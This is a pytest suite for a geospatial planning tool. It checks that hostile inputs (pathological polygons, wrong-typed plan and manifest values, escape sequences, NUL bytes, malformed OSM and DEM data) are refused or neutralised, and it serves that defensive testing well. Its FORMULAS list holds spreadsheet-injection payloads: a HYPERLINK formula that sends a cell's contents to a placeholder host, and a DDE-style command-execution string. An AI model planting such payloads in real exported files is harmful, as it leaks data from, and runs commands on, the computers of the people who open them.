"""Issue 13, "Bounded work and honest exit codes": hostile values through the API and the CLI.

Every example here failed on the code before the fix (a hang, exit 3, a silent wrong answer or
text passed through unchanged) and must end now in a refusal with exit code 2 that names what is
wrong and where, or in harmless output:

* work budgets: a polygon whose validity check, repair or overlay is superlinear is refused before
  GEOS starts (``E-LIMIT-WORK``) naming file, layer and feature (no timing is asserted);
* every key of every table of the shipped plan and manifest, with each wrong type and NaN/inf,
  is refused as the file is read, naming the key and its line;
* a sum over a text column is refused naming layer, column and sample values, not counted as 0;
* CSV cells that start a formula, escape sequences on the terminal, NUL bytes in HTML;
* legacy GeoJSON ``crs`` members, DEM and OSM edge cases;
* the inputs the plan and manifest fuzzers found.
"""

from __future__ import annotations

import csv
import logging
import re
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import geopandas as gpd
import numpy as np
import pytest
import rasterio
import shapely
from click.testing import CliRunner
from corpus.hostile_values import (
    X0,
    Y0,
    comb,
    manifest_mutations,
    mutate_manifest,
    mutate_plan,
    osm_xml,
    plan_mutations,
    star,
    toml_dumps,
    write_dataset,
    write_plan,
)
from rasterio.transform import Affine
from shapely import Point, box

from nbgeo import coverage, datasets, io, limits, network, plan, rules, suitability, targets
from nbgeo.cli import main
from nbgeo.errors import DataError, InputError, LimitError, NbgeoError, PlanError, RoadNetworkError
from nbgeo.html import safe_text
from nbgeo.sanitize import TerminalFormatter, spreadsheet_cell, terminal_text

REPO = Path(__file__).resolve().parents[1]
PLAN = datasets.get_path("ningbo_2025")
MANIFEST = datasets.get_path("ningbo") / "dataset.toml"


def _zones(geoms: list[object], ids: list[str], **columns: list[object]) -> gpd.GeoDataFrame:
    kinds = columns.pop("kind", ["water"] * len(ids))
    names = columns.pop("name", ["湖"] * len(ids))
    return gpd.GeoDataFrame({"id": ids, "name": names, "kind": kinds, **columns}, geometry=geoms, crs=4326)


def _no_traceback(result: object) -> None:
    output = getattr(result, "output", "")
    assert "Traceback" not in output and "internal error" not in output, output


# --------------------------------------------------------------------------------------------------------------
# Work budgets
# --------------------------------------------------------------------------------------------------------------


def test_a_star_polygon_is_refused_before_the_validity_check(tmp_path):
    # 200,000 vertices, under the 1,000,000-vertex limit; every edge crosses nearly every other, so is_valid
    # alone would take minutes and classifying the self-intersection (a make_valid) hours.
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([star(200_000)], ["z1"])})
    with pytest.raises(LimitError) as caught:
        io.read_dataset(folder)
    exc = caught.value
    assert exc.code == "E-LIMIT-WORK"
    assert "validity check" in str(exc) and "feature 'z1'" in str(exc) and "hint:" in str(exc)
    (problem,) = exc.problems
    assert (problem.file, problem.layer, problem.feature) == ("constraints.geojson", "constraints", "z1")


def test_a_star_polygon_is_refused_through_the_cli(tmp_path):
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([star(200_000)], ["z1"])})
    # A subprocess, with a generous guard against the hang this test exists for (not a timing assertion).
    done = subprocess.run([sys.executable, "-m", "nbgeo.cli", "validate", str(folder)], capture_output=True,
                          text=True, timeout=600, check=False)
    assert done.returncode == 2, done.stderr
    assert "E-LIMIT-WORK" in done.stderr and "'constraints.geojson'" in done.stderr
    assert "layer 'constraints'" in done.stderr and "feature 'z1'" in done.stderr
    assert "--max-work-seconds" in done.stderr and "Traceback" not in done.stderr


def test_repairing_a_star_is_refused_but_reporting_it_is_quick(tmp_path):
    # 2,000 vertices: checked in a moment and reported as a self-intersection; make_valid on it would take minutes.
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([star(2_000), box(X0, Y0, X0 + 0.01, Y0 + 0.01)],
                                                                  ["z1", "z2"])})
    with pytest.raises(NbgeoError) as caught:
        io.read_dataset(folder)
    assert {p.code for p in caught.value.problems if p.feature == "z1"} == {"E-GEOM-SELFX"}
    with pytest.raises(LimitError) as caught:
        io.read_dataset(folder, repair=True)
    assert caught.value.code == "E-LIMIT-WORK" and "the repair of 1 geometry" in str(caught.value)
    assert [p.feature for p in caught.value.problems] == ["z1"]
    result = CliRunner().invoke(main, ["validate", str(folder), "--repair", "--out", str(tmp_path / "out")])
    assert result.exit_code == 2 and "E-LIMIT-WORK" in result.stderr and "feature 'z1'" in result.stderr
    assert not (tmp_path / "out" / "repaired").exists()
    _no_traceback(result)


def _comb_dataset(tmp_path: Path) -> tuple[Path, Path]:
    # Two valid combs that cross each other 90,000 times: their intersection is quadratic in their vertices.
    parks = gpd.GeoDataFrame({"id": ["MP1"], "name": ["梳"], "status": ["built"], "year": [2022]},
                             geometry=[comb(300)], crs=4326)
    red = _zones([comb(300, turned=True)], ["CN1"], kind=["ecological_red_line"])
    folder = write_dataset(tmp_path / "ds", {"parks": parks, "constraints": red})
    plan_path = write_plan(tmp_path / "plan.toml", rules=[{
        "id": "red_line", "layer": "parks", "kind": "exclusion", "against": "constraints",
        "against_where": {"kind": "ecological_red_line"}, "max_area": 0}])
    return folder, plan_path


def test_an_overlay_of_two_crossing_combs_is_refused(tmp_path):
    folder, plan_path = _comb_dataset(tmp_path)
    with pytest.raises(LimitError) as caught:
        rules.evaluate_rule(plan.read_plan(plan_path).rules[0], io.read_dataset(folder))
    text = str(caught.value)
    assert caught.value.code == "E-LIMIT-WORK" and text.startswith("rule 'red_line' on layer 'parks'")
    assert "(file 'parks.geojson')" in text and "'MP1' with 'CN1'" in text and "possible edge crossings" in text
    assert {(p.file, p.layer, p.feature) for p in caught.value.problems} == {("parks.geojson", "parks",
                                                                           "MP1")}
    result = CliRunner().invoke(main, ["rules", str(folder), "--plan", str(plan_path), "--out", str(tmp_path / "o")])
    assert result.exit_code == 2 and "E-LIMIT-WORK" in result.stderr and "'MP1' with 'CN1'" in result.stderr
    _no_traceback(result)


def test_a_fine_grid_over_a_detailed_zone_is_refused_before_any_cell_is_made():
    a = np.linspace(0, 2 * np.pi, 2_000, endpoint=False)
    zone = gpd.GeoDataFrame(geometry=[shapely.Polygon(np.c_[2_500 * np.cos(a), 2_500 * np.sin(a)])], index=["Z1"],
                            crs="EPSG:32651")
    # 2 m cells: 6.25 million cells to make and test (priced per cell and per vertex of each cell cut, issue 18).
    with pytest.raises(LimitError) as caught:
        coverage.demand_units(zone, weight="area", split="grid", cell=2, crs="EPSG:32651", layer="clusters")
    text = str(caught.value)
    assert caught.value.code == "E-LIMIT-WORK" and text.startswith("layer 'clusters':")
    assert "feature 'Z1': 6,250,000 cells, about " in text and " on its edge × 2,001 vertices" in text
    # The budget is a limit like the others: lowered for one block, a 50 m split is refused; as it is, it runs.
    with limits.override(max_work_seconds=0.01), pytest.raises(LimitError):
        coverage.demand_units(zone, weight="area", split="grid", cell=50, crs="EPSG:32651")
    units = coverage.demand_units(zone, weight="area", split="grid", cell=50, crs="EPSG:32651")
    assert units["weight"].sum() == pytest.approx(zone.area.iloc[0])


def test_possible_crossings_tell_a_star_from_a_grid_of_holes():
    holes = [box(3 * i + 1, 3 * j + 1, 3 * i + 2, 3 * j + 2).exterior.coords for i in range(60) for j in range(60)]
    grid = shapely.Polygon([(0, 0), (181, 0), (181, 181), (0, 181)], holes)
    count = limits.possible_crossings([star(4_001), grid], enough=1_000)
    assert count[0] > 4_000 * 3_990 / 2 * 0.9  # nearly every pair of the star's edges
    assert count[1] < 1_000  # the loose x/y bound (millions) replaced by the sampled count
    assert limits.possible_crossings([grid])[0] > 1_000_000  # the bound itself, kept when nothing asks for more


def test_the_work_budgets_are_options_that_refuse_nonsense(tmp_path):
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([star(2_000)], ["z1"])})
    strict = CliRunner().invoke(main, ["validate", str(folder), "--max-work-seconds", "0.001"])
    assert strict.exit_code == 2 and "E-LIMIT-WORK" in strict.stderr and "0.001 s" in strict.stderr, strict.output
    default = CliRunner().invoke(main, ["validate", str(folder)])
    assert default.exit_code == 2 and "E-GEOM-SELFX" in default.stderr and "E-LIMIT-WORK" not in default.stderr
    for option in ("--max-work-seconds", "--max-total-work-seconds"):
        for value in ("nan", "0", "-1"):
            result = CliRunner().invoke(main, ["validate", str(folder), option, value])
            assert result.exit_code == 2 and ("work_seconds" in result.output or option in result.output), result.output
            _no_traceback(result)
    assert limits.max_work_seconds == 10 and limits.max_total_work_seconds == 30  # restored after each run


# --------------------------------------------------------------------------------------------------------------
# Every value of the plan and the manifest, type- and range-checked at read time
# --------------------------------------------------------------------------------------------------------------

PLAN_MUTATIONS = list(plan_mutations(PLAN))
MANIFEST_MUTATIONS = list(manifest_mutations(MANIFEST))
#: Wrong values that are still legal (a setback distance may be one number or one per class).
LEGAL = {"rules[6].distance: number for table", "rules[7].distance: number for table"}  # the two setbacks


#: "FILE, line N: [[table]] #i, key 'k': ..." or "FILE, line N: [layers.x], key 'k': ..."
KEY_AND_LINE = re.compile(r"\.toml, line (\d+): \S+(?: #\d+)?, key '([^']+)'")


def _line_of(text: str, number: int) -> str:
    return text.splitlines()[number - 1]


def test_every_key_of_the_shipped_files_is_tried():
    data = tomllib.loads(PLAN.read_text(encoding="utf-8"))
    tables = {"plan", "targets", "indicators", "rules", "coverage", "suitability", "siting"}
    assert set(data) == tables and {m[1] for m in PLAN_MUTATIONS} == tables
    keys = {(m[1], m[2]) for m in PLAN_MUTATIONS}
    every = {(t, k) for t in tables - {"plan"} for item in data[t] for k in item if k != "criteria"}
    every |= {("plan", k) for k in data["plan"]}
    every |= {("suitability", k) for s in data["suitability"] for c in s["criteria"] for k in c}
    assert every <= keys
    assert len(PLAN_MUTATIONS) > 1_500 and len(MANIFEST_MUTATIONS) > 300
    labels = {m[0].split(": ")[1] for m in PLAN_MUTATIONS}
    assert {"text for number", "list for text", "table for text", "bool for number", "nan", "inf"} <= labels


@pytest.mark.parametrize("table", ["plan", "targets", "indicators", "rules", "coverage", "suitability", "siting"])
def test_a_wrong_plan_value_is_refused_with_its_key_and_line(tmp_path, table):
    path = tmp_path / "plan.toml"
    wrong = []
    for mid, tbl, key, index, crit, value in PLAN_MUTATIONS:
        if tbl != table or mid in LEGAL:
            continue
        text = mutate_plan(PLAN, tbl, key, index, crit, value)
        path.write_text(text, encoding="utf-8")
        try:
            plan.read_plan(path)
        except PlanError as exc:
            found = KEY_AND_LINE.search(str(exc))
            if not found or found[2] != key or not _line_of(text, int(found[1])).startswith(f'"{key}"'):
                wrong.append(f"{mid}: {exc}")
        else:
            wrong.append(f"{mid}: accepted")
    assert not wrong, "\n".join(wrong[:20]) + f"\n... {len(wrong)} in all"


# One wrong value per kind of table and check, through the CLI: read with the plan, before anything is measured.
CLI_PLAN_CASES = [
    ("targets", 3, "where", {"status": {"like": "built"}}), ("targets", 0, "tiers", {"千亿级": "1000"}),
    ("targets", 3, "since", True), ("targets", 0, "milestones", {"2023": float("nan")}),
    ("targets", 2, "threshold", float("inf")), ("indicators", 0, "threshold", float("nan")),
    ("rules", 5, "distance", {"residential": "far"}), ("rules", 6, "min_distance", -20),
    ("rules", 7, "min_share", 250), ("rules", 0, "against_where", {"kind": {"like": "x"}}),
    ("coverage", 0, "distance", float("inf")), ("coverage", 1, "cell", "250"), ("coverage", 0, "threshold", [100]),
    ("suitability", 0, "min_score", 7), ("siting", 1, "k", 2.5), ("siting", 0, "cell", float("nan")),
    ("plan", None, "horizon", True),
]


@pytest.mark.parametrize(("table", "index", "key", "value"), CLI_PLAN_CASES, ids=lambda v: str(v)[:20])
def test_a_wrong_plan_value_ends_in_exit_2_through_the_cli(tmp_path, table, index, key, value):
    text = mutate_plan(PLAN, table, key, index, None, value)
    path = tmp_path / "plan.toml"
    path.write_text(text, encoding="utf-8")
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["z1"])})
    result = CliRunner().invoke(main, ["rules", str(folder), "--plan", str(path), "--out", str(tmp_path / "out")])
    assert result.exit_code == 2, result.output
    found = KEY_AND_LINE.search(result.stderr)
    assert found and found[2] == key and _line_of(text, int(found[1])).startswith(f'"{key}"'), result.stderr
    assert not (tmp_path / "out").exists()
    _no_traceback(result)


@pytest.fixture(scope="module")
def sample_copy(tmp_path_factory) -> Path:
    folder = tmp_path_factory.mktemp("sample") / "ningbo"
    shutil.copytree(MANIFEST.parent, folder)
    return folder


def test_a_wrong_manifest_value_is_refused_with_its_key_and_line(sample_copy):
    wrong = []
    for mid, section, name, key, value in MANIFEST_MUTATIONS:
        text = mutate_manifest(MANIFEST, section, name, key, value)
        (sample_copy / "dataset.toml").write_text(text, encoding="utf-8")
        try:
            io.read_dataset(sample_copy)
        except NbgeoError as exc:
            found = KEY_AND_LINE.search(str(exc))
            if exc.code != "E-MANIFEST-KEY" or not found or found[2] != key or not _line_of(
                    text, int(found[1])).startswith(f'"{key}"'):
                wrong.append(f"{mid}: [{exc.code}] {exc}")
        else:
            wrong.append(f"{mid}: accepted")
    assert not wrong, "\n".join(wrong[:20]) + f"\n... {len(wrong)} in all"


@pytest.mark.parametrize(("section", "name", "key", "value"), [
    ("layers", "chargers", "illustrative", 1), ("layers", "districts", "source", ["cnmaps"]),
    ("rasters", "dem", "file", {"path": "dem.tif"}), ("networks", "roads", "network_type", "walk"),
    ("tables", "indicators", "illustrative", "yes"), ("dataset", None, "name", 5),
])
def test_a_wrong_manifest_value_ends_in_exit_2_through_the_cli(sample_copy, tmp_path, section, name, key, value):
    text = mutate_manifest(MANIFEST, section, name, key, value)
    (sample_copy / "dataset.toml").write_text(text, encoding="utf-8")
    result = CliRunner().invoke(main, ["validate", str(sample_copy)])
    assert result.exit_code == 2, result.output
    found = KEY_AND_LINE.search(result.stderr)
    assert found and found[2] == key and _line_of(text, int(found[1])).startswith(f'"{key}"'), result.stderr
    _no_traceback(result)


def test_the_plan_schema_knows_every_key_the_evaluators_take():
    from nbgeo import optimize
    from nbgeo.plan import models

    described = {"id", "phrase", "title", "proposed", "severity", "basis"}
    assert set(coverage.SPEC_KEYS) | described | {"demand", "facilities"} == set(models.CoverageModel.model_fields)
    assert set(optimize.SITING_KEYS) | described == set(models.SitingModel.model_fields)
    assert set(models.RULE_KEYS) == set(rules.KINDS)
    for kind, keys in suitability._KEYS.items():
        assert keys == models.CRITERION_KEYS[kind], kind
    assert set(models.CRITERION_KEYS) == set(suitability.CRITERIA)
    assert set(models.CoverageModel.model_fields["mode"].annotation.__args__) == set(coverage.PLAN_MODES)


def test_a_sum_over_a_text_column_is_refused_not_counted_as_zero(tmp_path):
    zones = gpd.GeoDataFrame({"id": ["Z1", "Z2", "Z3"], "name": ["a", "b", "c"], "year": [2021, 2021, 2022],
                              "output_2025": ["1200", "十亿", "n/a"]},
                             geometry=[box(X0 + i * 0.02, Y0, X0 + i * 0.02 + 0.01, Y0 + 0.01) for i in range(3)],
                             crs=4326)
    folder = write_dataset(tmp_path / "ds", {"zones": zones})
    plan_path = write_plan(tmp_path / "plan.toml", targets=[{
        "id": "output", "layer": "zones", "metric": "sum", "column": "output_{year}", "op": ">=",
        "threshold": 1000, "year_column": ""}])
    with pytest.raises(DataError) as caught:
        targets.evaluate_targets(plan.read_plan(plan_path), io.read_dataset(folder))
    text = str(caught.value)
    assert caught.value.code == "E-VALUE-TYPE" and "layer 'zones', column 'output_2025'" in text
    assert "feature 'Z2': '十亿'" in text and "feature 'Z3': 'n/a'" in text and "hint:" in text
    result = CliRunner().invoke(main, ["audit", str(folder), "--plan", str(plan_path), "--out", str(tmp_path / "o"),
                                       "--no-map", "--no-progress"])
    assert result.exit_code == 2 and "E-VALUE-TYPE" in result.stderr and "'十亿'" in result.stderr
    _no_traceback(result)


# --------------------------------------------------------------------------------------------------------------
# Spreadsheets, terminals and HTML
# --------------------------------------------------------------------------------------------------------------

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3",
            "\tTAB", "\rCR"]


def test_rule_sites_csv_neutralises_formulas_and_keeps_numbers(tmp_path):
    parks = gpd.GeoDataFrame({"id": [*FORMULAS, "MP7"], "name": ["p"] * 7, "status": ["built"] * 7,
                              "year": [2022] * 7},
                             geometry=[box(X0 + i * 0.01, Y0, X0 + i * 0.01 + 0.005, Y0 + 0.005) for i in range(7)],
                             crs=4326)
    folder = write_dataset(tmp_path / "ds", {"parks": parks})
    plan_path = write_plan(tmp_path / "plan.toml", rules=[{"id": "park_area", "layer": "parks", "kind": "area",
                                                           "min_area": 100, "unit": "ha"}])
    result = CliRunner().invoke(main, ["rules", str(folder), "--plan", str(plan_path), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1, result.output
    with (tmp_path / "o" / "rule_sites.csv").open(encoding="utf-8", newline="") as fh:  # a cell may hold a CR
        rows = list(csv.DictReader(fh))
    assert sorted(r["feature_id"] for r in rows) == sorted(["'" + f for f in FORMULAS] + ["MP7"])
    assert all(float(r["margin"]) < 0 and not r["margin"].startswith("'") for r in rows)  # numbers stay numbers


def test_no_csv_is_written_around_the_one_function():
    writers = re.compile(r"\.to_csv\(|csv\.writer|csv\.DictWriter|to_excel\(|openpyxl\.Workbook\(")
    found = [f"{path.relative_to(REPO)}:{no}" for folder in ("nbgeo", "scripts") for path in (REPO / folder).glob("*.py")
             if path.name not in ("sanitize.py", "make_indicators.py")
             for no, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1) if writers.search(line)]
    assert not found, found
    assert spreadsheet_cell(-5) == -5 and spreadsheet_cell("-5") == "'-5" and spreadsheet_cell(None) is None


def test_escape_sequences_in_data_never_reach_the_terminal(tmp_path):
    fake = "\x1b[2J\x1b[1;1Hall met \x1b]0;owned\x07\x9b31m\u202etem ton"
    parks = gpd.GeoDataFrame({"id": ["MP1"], "name": [fake], "status": ["built"], "year": [2022]},
                             geometry=[box(X0, Y0, X0 + 0.001, Y0 + 0.001)], crs=4326)
    red = _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["CN1"], kind=["ecological_red_line"], name=[fake])
    folder = write_dataset(tmp_path / "ds", {"parks": parks, "constraints": red})
    plan_path = write_plan(tmp_path / "plan.toml", rules=[{
        "id": "red_line", "layer": "parks", "kind": "exclusion", "against": "constraints",
        "against_where": {"kind": "ecological_red_line"}, "max_area": 0, "title": fake}])
    result = CliRunner().invoke(main, ["rules", str(folder), "--plan", str(plan_path), "--out", str(tmp_path / "o")])
    assert result.exit_code == 1, result.output
    assert "all met" in result.output  # the text is shown ...
    assert not re.search("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e]", result.output)  # ... but nothing it commands


def test_log_lines_are_cleaned_too():
    record = logging.LogRecord("nbgeo", logging.WARNING, __file__, 1, "%s: 3 nodes missing", ("\x1b[2Jroads.osm",),
                               None)
    assert TerminalFormatter("%(levelname)s %(message)s").format(record) == "WARNING roads.osm: 3 nodes missing"
    assert terminal_text("a\x00b\x1bc\r\n") == "ab\n"


def test_no_nul_in_reports_and_maps_when_plan_or_data_hold_one(tmp_path):
    parks = gpd.GeoDataFrame({"id": ["MP1"], "name": ["nul\x00park\ufffe"], "status": ["built"], "year": [2022]},
                             geometry=[box(X0, Y0, X0 + 0.001, Y0 + 0.001)], crs=4326)
    red = _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["CN1"], kind=["ecological_red_line"], name=["red\x00line"])
    folder = write_dataset(tmp_path / "ds", {"parks": parks, "constraints": red})
    plan_path = write_plan(tmp_path / "plan.toml", plan={"title": "plan\x00title", "note": "x\x00y"}, rules=[{
        "id": "red_line", "layer": "parks", "kind": "exclusion", "against": "constraints",
        "against_where": {"kind": "ecological_red_line"}, "max_area": 0, "phrase": "phrase\x00nul"}])
    out = tmp_path / "o"
    result = CliRunner().invoke(main, ["audit", str(folder), "--plan", str(plan_path), "--out", str(out),
                                       "--format", "html", "--format", "md", "--no-progress"])
    assert result.exit_code == 1, result.output
    result = CliRunner().invoke(main, ["map", str(folder), "--plan", str(plan_path), "--out", str(out / "map.html")])
    assert result.exit_code == 0, result.output
    for name in ("audit.html", "audit.md", "map.html"):
        data = (out / name).read_bytes()
        assert b"\x00" not in data and "\ufffe".encode() not in data, name
        assert "plan\ufffdtitle" in data.decode("utf-8"), name  # still shown, with the replacement character
    assert safe_text("\ud800") == "\ufffd"  # a lone surrogate could not even be written as UTF-8


# --------------------------------------------------------------------------------------------------------------
# GeoJSON crs members, DEMs and OSM files
# --------------------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("member", "what"), [
    ({"type": "name", "properties": {"name": "urn:ogc:def:crs:EPSG::999999"}}, "ignored"),
    ({"type": "link", "properties": {"href": "http://example.com/crs/42", "type": "proj4"}}, "ignored"),
    ("EPSG:3857", "ignored"),
])
def test_a_legacy_crs_member_is_reported_whatever_gdal_did_with_it(tmp_path, member, what):
    import json

    feature = {"type": "Feature", "properties": {"id": "z1", "name": "湖", "kind": "water"},
               "geometry": box(X0, Y0, X0 + 0.01, Y0 + 0.01).__geo_interface__}
    folder = tmp_path / "ds"
    write_dataset(folder, {"constraints": _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["z1"])})
    doc = {"type": "FeatureCollection", "features": [json.loads(json.dumps(feature))], "crs": member}
    (folder / "constraints.geojson").write_text(json.dumps(doc), encoding="utf-8")
    ds = io.read_dataset(folder)
    (problem,) = [p for p in ds.problems if p.code == "W-GEOJSON-NONRFC"]
    assert problem.file == "constraints.geojson" and what in problem.message
    assert json.dumps(member)[:40] in problem.message and "WGS 84" in problem.message
    result = CliRunner().invoke(main, ["validate", str(folder)])
    assert result.exit_code == 0 and "W-GEOJSON-NONRFC" in result.output and what in result.output


def _dem(folder: Path, z: np.ndarray, transform: Affine) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    with rasterio.open(folder / "dem.tif", "w", driver="GTiff", width=z.shape[1], height=z.shape[0], count=1,
                       dtype="float32", crs="EPSG:4326", transform=transform, nodata=-9999) as dst:
        dst.write(z.astype("float32"), 1)
    return folder / "dem.tif"


def test_a_dem_beyond_the_globe_is_refused(tmp_path):
    # Pixel sizes in metres written as degrees: the grid spans millions of degrees.
    dem = _dem(tmp_path / "ds", np.arange(100.0).reshape(10, 10), Affine(30.0, 0, X0, 0, -30.0, Y0))
    folder = write_dataset(tmp_path / "ds", {"constraints": _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["z1"])},
                           rasters={"dem": dem})
    with pytest.raises(NbgeoError) as caught:
        io.read_dataset(folder)
    assert "E-RASTER-EXTENT" in {p.code for p in caught.value.problems}
    result = CliRunner().invoke(main, ["validate", str(folder)])
    assert result.exit_code == 2 and "E-RASTER-EXTENT" in result.stderr and "beyond the globe" in result.stderr
    _no_traceback(result)


def test_a_slope_from_a_one_pixel_dem_is_refused_not_read_as_flat_land(tmp_path):
    dem = _dem(tmp_path / "ds", np.array([[12.0]]), Affine(2.0, 0, X0 - 1, 0, -2.0, Y0 + 1))
    districts = gpd.GeoDataFrame({"id": ["D1"], "name": ["海曙区"], "code": ["330203"]},
                                 geometry=[box(X0, Y0, X0 + 0.02, Y0 + 0.02)], crs=4326)
    folder = write_dataset(tmp_path / "ds", {"districts": districts}, rasters={"dem": dem})
    spec = plan.SuitabilitySpec(id="s", layer="parks", params={"criteria": [
        {"kind": "slope", "weight": 1, "best": 2, "worst": 10}]})
    with pytest.raises(InputError) as caught:
        suitability.surface_from_spec(spec, io.read_dataset(folder), cell=100)
    assert caught.value.code == "E-RASTER-SMALL" and "raster 'dem' (dem.tif) has 1 × 1 pixels" in str(caught.value)


def _network_dataset(tmp_path: Path, text: str) -> Path:
    return write_dataset(tmp_path / "ds", {"constraints": _zones([box(X0, Y0, X0 + 0.01, Y0 + 0.01)], ["z1"])},
                         networks={"roads": text})


@pytest.mark.parametrize(("nodes", "ways", "code", "words"), [
    ([(1, "abc", Y0), (2, X0, Y0), (3, X0 + 0.001, Y0)], [(1, [1, 2, 3], {"highway": "residential"})],
     "E-NET-PARSE", "wrong format for coordinate"),
    ([(1, X0, Y0), (2, X0 + 0.001, Y0)], [(1, [1], {"highway": "residential"}), (2, [2], {"highway": "primary"})],
     "E-NET-EMPTY", "fewer than two nodes"),
    ([(-1, X0, Y0), (-2, X0 + 0.001, Y0)], [(-1, [-1, -2], {"highway": "residential"})],
     "E-NET-EMPTY", "negative ids"),
])
def test_osm_edge_cases_end_in_a_named_error(tmp_path, nodes, ways, code, words):
    folder = _network_dataset(tmp_path, osm_xml(nodes, ways))
    with pytest.raises(RoadNetworkError) as caught:
        network.read_dataset_network(folder, "roads", use_cache=False)
    assert caught.value.code == code and words in str(caught.value) and "roads.osm" in str(caught.value)
    parks = gpd.GeoDataFrame({"id": ["MP1"], "name": ["p"], "status": ["built"], "year": [2022]},
                             geometry=[box(X0, Y0, X0 + 0.001, Y0 + 0.001)], crs=4326)
    chargers = gpd.GeoDataFrame({"id": ["c1"], "type": ["charging"], "ports": [2], "year": [2022]},
                                geometry=[Point(X0 + 0.002, Y0)], crs=4326)
    write_dataset(folder, {"parks": parks, "stations": chargers}, networks={"roads": osm_xml(nodes, ways)})
    # A rule measured by road refuses a broken network (coverage reports it as unknown, with the reason).
    plan_path = write_plan(tmp_path / "plan.toml", rules=[{
        "id": "by_road", "layer": "parks", "kind": "access", "against": "stations", "max_distance": 1000,
        "by": "road", "network": "roads"}])
    result = CliRunner().invoke(main, ["rules", str(folder), "--plan", str(plan_path), "--out", str(tmp_path / "o")])
    assert result.exit_code == 2 and code in result.stderr and words in result.stderr, result.output
    _no_traceback(result)


# --------------------------------------------------------------------------------------------------------------
# What the fuzzers found
# --------------------------------------------------------------------------------------------------------------

FOUND = Path(__file__).parent / "corpus" / "fuzz_found_toml"


@pytest.fixture(scope="module")
def toml_fuzz_targets():
    sys.path.insert(0, str(REPO / "fuzz"))
    import fuzz_plans

    return fuzz_plans


@pytest.mark.parametrize("path", sorted(FOUND.glob("*")), ids=lambda p: p.name)
def test_inputs_the_toml_fuzzers_found_are_handled(toml_fuzz_targets, path):
    target = "manifest" if path.name.startswith("manifest-") else "plan"
    toml_fuzz_targets.TARGETS[target](path.read_bytes())  # raises only for non-nbgeo exceptions


def test_the_toml_fuzzers_take_the_shipped_files_as_seeds(toml_fuzz_targets, tmp_path):
    for target in ("plan", "manifest"):
        assert toml_fuzz_targets.seed(tmp_path / target, target) >= 2
        for seed in sorted((tmp_path / target).iterdir())[:3]:
            toml_fuzz_targets.TARGETS[target](seed.read_bytes())
    assert toml_dumps(tomllib.loads(PLAN.read_text(encoding="utf-8")))  # the corpus writer reads what it wrote
